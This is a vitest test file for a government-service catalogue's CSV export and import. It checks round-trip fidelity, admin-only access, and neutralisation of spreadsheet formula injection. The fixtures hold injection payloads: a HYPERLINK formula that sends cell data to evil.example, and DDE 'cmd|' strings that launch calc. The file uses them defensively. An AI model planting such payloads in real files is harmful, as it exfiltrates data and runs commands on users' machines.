import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Db } from '../../db/client';
import { systemActor } from '../auth/actor';
import { usccCheckCharacter } from '../contractors/uscc';
import { buildFixture } from '../testing/fixture';
import { testDb } from '../testing/db';
import { exportCatalogueCsv } from './export';
import { importCatalogue } from './import';

const actor = systemActor('round trip');

function catalogue(db: Db) {
  const q = (sql: string) => db.$client.prepare(sql).all();
  return {
    departments: q('select code, name_zh, name_en, kind, credit_code from departments order by code'),
    matters: q(`select m.code, title_zh, title_en, description_zh, description_en, category, d.code as dept, legal_basis, service_standard, annual_budget_fen, catalogue_status, withdrawal_reason
                from matters m join departments d on d.id = m.department_id order by m.code`),
    contractors: q(`select name_zh, name_en, kind, credit_code, legal_representative, contact_phone, contact_email, qualifications, verification_status, status_reason
                    from contractors order by credit_code`),
  };
}

describe('catalogue export → import', () => {
  it('re-imports into an empty registry as the same catalogue, Chinese text and all', () => {
    const source = buildFixture();
    // Make the catalogue awkward: quotes, commas, newlines, a withdrawn matter.
    source.db.$client.exec(`update matters set description_zh = '含"引号"，逗号,
和换行', catalogue_status = 'withdrawn', withdrawal_reason = '职能调整' where code = 'LG-SAF-001'`);
    const files = (['departments', 'matters', 'contractors'] as const).map((kind) => ({ name: `${kind}.csv`, text: exportCatalogueCsv(source.db, actor, kind) }));
    for (const f of files) expect(f.text.startsWith('\uFEFF')).toBe(true);

    const target = testDb();
    const report = importCatalogue(target, actor, files, { dryRun: false });
    expect(report.problems).toEqual([]);
    expect(catalogue(target)).toEqual(catalogue(source.db));
  });

  it('neutralizes formula-leading text in every kind of file, and re-imports it unchanged', () => {
    const source = buildFixture();
    const gov = (org: string) => `11330383${org}${usccCheckCharacter(`11330383${org}`)}`;
    const hostile = {
      dept: '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
      deptEn: "'quoted already",
      title: '+cmd|\' /C calc\'!A0',
      titleEn: '-2+3',
      description: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      // (Text the use cases hold is trimmed, so no cell here starts with a tab or CR: lib/csv tests those.)
      legal: '=2*3',
      standard: "@A1 'quoted'",
      contractor: '=1+1',
      contractorEn: "''two apostrophes",
      phone: '+86 577 6888 0000',
      qualifications: '-',
    };
    const set = (sql: string, ...args: unknown[]) => source.db.$client.prepare(sql).run(...args);
    set('update departments set name_zh = ?, name_en = ?, credit_code = ? where code = ?', hostile.dept, hostile.deptEn, gov('MB0010014'), 'LG-D-AAA');
    set('update departments set credit_code = ? where code = ?', gov('MB0010380'), 'LG-D-BBB');
    set('update matters set title_zh = ?, title_en = ?, description_zh = ?, legal_basis = ?, service_standard = ? where code = ?', hostile.title, hostile.titleEn, hostile.description, hostile.legal, hostile.standard, 'LG-ENV-001');
    set('update contractors set name_zh = ?, name_en = ?, contact_phone = ?, qualifications = ? where credit_code = ?', hostile.contractor, hostile.contractorEn, hostile.phone, hostile.qualifications, '91350100M000100Y43');
    const files = (['departments', 'matters', 'contractors'] as const).map((kind) => ({ name: `${kind}.csv`, text: exportCatalogueCsv(source.db, actor, kind) }));

    // As a spreadsheet would read them: no cell starts a formula; the hostile ones are behind an apostrophe.
    const cells = files.flatMap((f) => (parse(f.text, { bom: true }) as string[][]).flat());
    for (const cell of cells) expect(['=', '+', '-', '@', '\t', '\r'], JSON.stringify(cell)).not.toContain(cell.charAt(0));
    for (const value of Object.values(hostile)) expect(cells).toContain(`'${value}`);
    // The budget is a number: never prefixed.
    expect(files[1]!.text).toContain(',10000000,');

    const target = testDb();
    const report = importCatalogue(target, actor, files, { dryRun: false });
    expect(report.problems).toEqual([]);
    expect(catalogue(target)).toEqual(catalogue(source.db));
    expect(target.$client.prepare('select name_zh from departments where code = ?').pluck().get('LG-D-AAA')).toBe(hostile.dept);
  });

  it('is for administrators only', () => {
    const f = buildFixture();
    expect(() => exportCatalogueCsv(f.db, f.actors.officerA, 'contractors')).toThrow();
  });
});
